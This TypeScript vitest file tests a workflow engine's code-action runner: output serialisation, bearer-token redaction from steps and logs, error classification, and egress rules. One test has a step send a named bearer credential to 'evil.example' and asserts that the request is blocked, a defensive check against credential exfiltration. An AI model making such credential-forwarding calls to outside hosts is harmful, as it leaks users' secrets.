import { describe, expect, it } from "vitest";
import {
  Grown,
  performAction,
  type ActionCall,
  type ActionResult,
  type CodeTools,
  type ScopeView,
} from "../../src/actions/index.ts";
import { createCode, createRegistry, Fatal, Refused, RetryAfter } from "../../src/define/index.ts";
import { answered, call, outside, scope, TOKEN, type Outside } from "./support.ts";
import type { EgressResult } from "../../src/platform/index.ts";

const URL_ = "https://api.skyline.example/x";
const code = createCode(createRegistry([]));
type Step = (context: CodeTools & ScopeView) => unknown;

function surroundingsOf(step: Step, result: EgressResult = answered(200, {})): Outside {
  return outside(() => result, { step: () => step });
}

function run(step: Step, more: Partial<ActionCall> = {}, result?: EgressResult): Promise<ActionResult> {
  return performAction(call({ action: "code", effect: "once", ...more }), surroundingsOf(step, result));
}

describe("what a function returns", () => {
  it("becomes the output, undefined as null", async () => {
    expect(await run(() => ({ a: [1, undefined], b: undefined, at: new Date(0) }))).toEqual({
      kind: "success",
      output: { a: [1, null], at: "1970-01-01T00:00:00.000Z" },
    });
    expect(await run(() => {})).toEqual({ kind: "success", output: null });
  });

  const circle: { self?: unknown } = {};
  circle.self = circle;
  it.each([
    ["bigint", { n: 1n }],
    ["function", { f: () => 1 }],
    ["symbol", Symbol("x")],
    ["NaN", [Number.NaN]],
    ["a map", new Map()],
    ["bytes", new Uint8Array(2)],
    ["a circle", circle],
  ])("is unusable if it holds %s", async (_, value) => {
    expect(await run(() => value)).toMatchObject({ kind: "unusable", failure: { code: "output_invalid" } });
  });

  it("can bring more steps; steps that do not fit are unusable", async () => {
    const steps = [{ name: "more" }] as never;
    const good = outside(() => answered(200), {
      step: () => () => new Grown(1, "steps"),
      growth: () => ({ ok: true, steps }),
    });
    expect(await performAction(call({ action: "code" }), good)).toEqual({
      kind: "success",
      output: 1,
      more: steps,
    });
    expect(await run(() => new Grown(1, {}))).toMatchObject({
      kind: "unusable",
      failure: { code: "growth_refused" },
    });
  });
});

describe("a token that a service echoes", () => {
  const growing = (steps: (echo: string) => Record<string, unknown>, growth = code.growth): Outside =>
    outside(() => answered(200, { echo: `Bearer ${TOKEN}` }), {
      step: () => async (context: never) => {
        const { fetch } = context as CodeTools;
        const answer = await fetch(URL_, { auth: { bearer: "SKYLINE_TOKEN" } });
        const { echo } = (await answer.json()) as { readonly echo: string };
        return new Grown(echo, steps(echo));
      },
      growth,
    });
  const perform = (surroundings: Outside): Promise<ActionResult> =>
    performAction(call({ action: "code", effect: "safe" }), surroundings);

  it("is in no step that the function brings, however deep it stands there (K12)", async () => {
    const result = await perform(
      growing((echo) => ({ next: { action: "transform", with: { value: [{ said: echo }] } } })),
    );
    expect(result).toMatchObject({ kind: "success", more: [{ name: "next" }] });
    expect(JSON.stringify(result)).not.toContain(TOKEN);
  });

  it("makes a step unusable whose name it is, and is not told (K12)", async () => {
    const result = await perform(
      growing((echo) => ({ [echo]: { action: "transform", with: { value: 1 } } })),
    );
    expect(result).toMatchObject({ kind: "unusable", failure: { code: "growth_refused" } });
    expect(JSON.stringify(result)).not.toContain(TOKEN);
  });

  it("is taken out also of what compiling made of the steps (K12)", async () => {
    const steps = [{ name: "next", with: { value: TOKEN } }] as never;
    const result = await perform(
      growing(
        () => ({}),
        () => ({ ok: true, steps }),
      ),
    );
    expect(result).toMatchObject({ kind: "success" });
    expect(JSON.stringify(result)).not.toContain(TOKEN);
  });
});

describe("what a function throws", () => {
  const boom = (): never => {
    throw new TypeError("boom");
  };

  it("is refused as long as its fetch was not called, and unclear from then on", async () => {
    expect(await run(boom)).toMatchObject({
      kind: "refused",
      failure: { code: "step_threw", retryable: true },
    });
    const later = run(async ({ fetch }) => {
      await fetch(URL_);
      boom();
    });
    expect(await later).toMatchObject({ kind: "unclear", failure: { code: "step_threw" } });
  });

  it("can say more: Fatal, Refused, RetryAfter", async () => {
    const fatal = new Fatal("no card", { reason: "card", hint: "Ask." });
    const after = async ({ fetch }: CodeTools, error: Error): Promise<never> => {
      await fetch(URL_);
      throw error;
    };
    expect(await run((c) => after(c, fatal))).toEqual({
      kind: "cannot",
      failure: { code: "step_failed", message: "no card", hint: "Ask.", retryable: false, reason: "card" },
    });
    expect(await run((c) => after(c, new Refused("closed", { retryAfter: "5m" })))).toMatchObject({
      kind: "refused",
      retryAfterMs: 300_000,
    });
    expect(await run((c) => after(c, new RetryAfter("2s")))).toMatchObject({
      kind: "unclear",
      retryAfterMs: 2_000,
    });
    expect(
      await run(() => {
        throw new RetryAfter(1_500);
      }),
    ).toMatchObject({ kind: "refused", retryAfterMs: 1_500 });
  });

  it("may be anything", async () => {
    for (const thrown of [null, "text", { message: 3 }, new Proxy({}, { get: () => boom() })]) {
      const result = await run(() => {
        // oxlint-disable-next-line typescript/only-throw-error -- authors can throw anything
        throw thrown;
      });
      expect(result).toMatchObject({ kind: "refused", failure: { code: "step_threw" } });
    }
  });

  it("stands in the log with its stack, without what was lent", async () => {
    const surroundings = surroundingsOf(async ({ fetch }) => {
      await fetch(URL_, { auth: { bearer: "SKYLINE_TOKEN" } });
      throw new Error(`bad token ${TOKEN}`);
    });
    const result = await performAction(call({ action: "code" }), surroundings);
    expect(surroundings.lines.join()).toContain("step_threw");
    expect(surroundings.lines.join() + JSON.stringify(result)).not.toContain(TOKEN);
  });
});

describe("the fetch of a function", () => {
  it("sends a named credential to its host, and nothing at all elsewhere", async () => {
    const surroundings = surroundingsOf(async ({ fetch }) => {
      await fetch(URL_, { auth: { bearer: "SKYLINE_TOKEN" }, headers: { "x-a": "1" } });
      await fetch("https://evil.example/", { auth: { bearer: "SKYLINE_TOKEN" } });
    });
    expect(await performAction(call({ action: "code", effect: "idempotent" }), surroundings)).toMatchObject({
      kind: "unclear",
      failure: { code: "egress_blocked" },
    });
    expect(surroundings.requests).toHaveLength(1);
    expect(surroundings.requests[0]?.headers).toMatchObject({ authorization: `Bearer ${TOKEN}`, "x-a": "1" });
  });

  it("that a credential was refused for, before anything was sent, can never work", async () => {
    const step: Step = ({ fetch }) => fetch("https://evil.example/", { auth: { bearer: "SKYLINE_TOKEN" } });
    expect(await run(step)).toMatchObject({ kind: "cannot", failure: { code: "egress_blocked" } });
  });

  it("tells the engine before something leaves", async () => {
    let sent = 0;
    await run(({ fetch }) => fetch(URL_).then(() => null), { sent: () => (sent += 1) });
    expect(sent).toBe(1);
  });

  it.each([
    [{ kind: "blocked", code: "host_local", message: "no" }, "cannot", "egress_blocked"],
    [{ kind: "failed", code: "network", message: "no", sent: true, answer: null }, "unclear", "network"],
    [{ kind: "failed", code: "timeout", message: "no", sent: true, answer: null }, "unclear", "timeout"],
    [
      { kind: "failed", code: "too_large", message: "no", sent: true, answer: null },
      "unclear",
      "output_too_large",
    ],
  ] satisfies [EgressResult, string, string][])(
    "that ends as %j leaves the step %s, %s",
    async (result, kind, code) => {
      expect(await run(({ fetch }) => fetch(URL_), {}, result)).toMatchObject({ kind, failure: { code } });
    },
  );

  it("that meets a limit of the event before anything was sent is a hop", async () => {
    const limit: EgressResult = {
      kind: "failed",
      code: "subrequest_limit",
      message: "no",
      sent: false,
      answer: null,
    };
    expect(await run(({ fetch }) => fetch(URL_), {}, limit)).toEqual({ kind: "hop" });
  });
});

describe("expectOk", () => {
  const post: Step = async ({ fetch, expectOk }) => {
    const answer = await expectOk(await fetch(URL_, { method: "POST", body: "{}" }));
    return answer.json();
  };

  it.each([
    [200, "success", undefined],
    [422, "cannot", "http_422"],
    [429, "refused", "http_429"],
    [500, "unclear", "http_500"],
  ])("judges %i as the action http would: %s", async (status, kind, code) => {
    const result = await run(post, {}, answered(status, { detail: "x" }, { "retry-after": "3" }));
    expect(result).toMatchObject(code === undefined ? { kind } : { kind, failure: { code, status } });
    if (status === 429) expect(result).toMatchObject({ retryAfterMs: 3_000 });
  });

  it("calls nothing refused or impossible once another request of the attempt may have changed something", async () => {
    for (const status of [422, 429]) {
      let calls = 0;
      const surroundings = outside(() => answered((calls += 1) === 1 ? 201 : status), { step: () => twice });
      expect(await performAction(call({ action: "code", effect: "once" }), surroundings)).toMatchObject({
        kind: "unclear",
      });
    }
  });

  const twice: Step = async (tools) => {
    await tools.fetch(URL_, { method: "POST" });
    return post(tools);
  };

  it("lets pass what the function itself can deal with", async () => {
    const step: Step = async ({ fetch, expectOk }) => (await expectOk(await fetch(URL_), [404])).status;
    expect(await run(step, {}, answered(404))).toEqual({ kind: "success", output: 404 });
  });
});

describe("the context of a function", () => {
  const seen = async (more: Partial<ActionCall>): Promise<CodeTools & ScopeView> => {
    let context: (CodeTools & ScopeView) | undefined;
    await run((given) => void (context = given), more);
    if (context === undefined) throw new Error("not called");
    return context;
  };

  it("has the step's key; in a compensation it is called stepKey, beside a key of its own if that is keyed", async () => {
    expect(await seen({})).toMatchObject({ key: "run_test.s.g0", attempt: 1 });
    const undo = await seen({ unit: { step: "s", role: "undo" }, effect: "keyed", key: "own-key" });
    expect(undo).toMatchObject({ key: "own-key", stepKey: "run_test.s.g0" });
    expect(await seen({ unit: { step: "s", role: "undo" } })).not.toHaveProperty("key");
  });

  it("loads a value only when it is read", async () => {
    let loads = 0;
    const context = await seen({ scope: scope({ input: () => (loads += 1), steps: { a: 1 } }) });
    expect(loads).toBe(0);
    expect(context.input).toBe(1);
    expect(Object.keys(context.steps)).toEqual(["a"]);
    expect(() => context.steps["b"]).toThrow(ReferenceError);
  });

  it("of a function that this build lacks is never made: the step waits for a deploy", async () => {
    const result = await performAction(
      call({ action: "code" }),
      outside(() => answered(200)),
    );
    expect(result).toMatchObject({ kind: "cannot", failure: { code: "step_code_missing" } });
  });
});
